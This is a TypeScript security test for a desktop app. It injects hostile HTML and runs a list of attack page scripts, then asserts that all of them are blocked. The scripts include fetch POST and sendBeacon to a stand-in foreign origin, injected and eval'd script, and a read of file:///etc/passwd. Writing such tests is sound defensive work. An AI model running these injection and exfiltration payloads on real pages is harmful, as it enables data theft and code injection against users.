import {
  evaluateAsPageScript,
  expect,
  insertHtmlIntoPage,
  test,
} from '../../../fixtures/hostile/hostile-page-test.ts'

test('a page script of the desktop app cannot load anything from other origins or run an added script', async ({
  signedInApp,
  foreignOrigin,
}) => {
  const { page } = signedInApp
  await insertHtmlIntoPage(
    page,
    `<img src="${foreignOrigin.origin}/picture" onerror="window.hacked = 1"><iframe src="${foreignOrigin.origin}/frame"></iframe>
     <iframe srcdoc="<script>parent.hacked = 1</script>"></iframe><object data="${foreignOrigin.origin}/object"></object>
     <link rel="stylesheet" href="${foreignOrigin.origin}/style"><webview src="${foreignOrigin.origin}/webview"></webview>`,
  )
  const scripts = [
    `fetch('${foreignOrigin.origin}/fetch', { method: 'POST', body: 'x' })`,
    `navigator.sendBeacon('${foreignOrigin.origin}/beacon', 'x')`,
    `import('${foreignOrigin.origin}/module')`,
    `new WebSocket('${foreignOrigin.origin.replace('http', 'ws')}/socket')`,
    `void document.body.append(Object.assign(document.createElement('script'), { src: '${foreignOrigin.origin}/script' }))`,
    `void document.body.append(Object.assign(document.createElement('script'), { text: 'window.hacked = 1' }))`,
    `eval('window.hacked = 1')`,
    `new Function('window.hacked = 1')()`,
    `new Worker(URL.createObjectURL(new Blob(['0'])))`,
    `fetch('file:///etc/passwd').then((response) => response.text())`,
  ]
  for (const script of scripts) await evaluateAsPageScript(page, script)
  expect(
    // The webview tag must be an unknown element without the methods of a webview.
    await page.evaluate(() => [
      Reflect.get(window, 'hacked'),
      'reload' in (document.querySelector('webview') ?? { reload: true }),
    ]),
  ).toEqual([undefined, false])
  expect(foreignOrigin.receivedRequests).toEqual([])
})
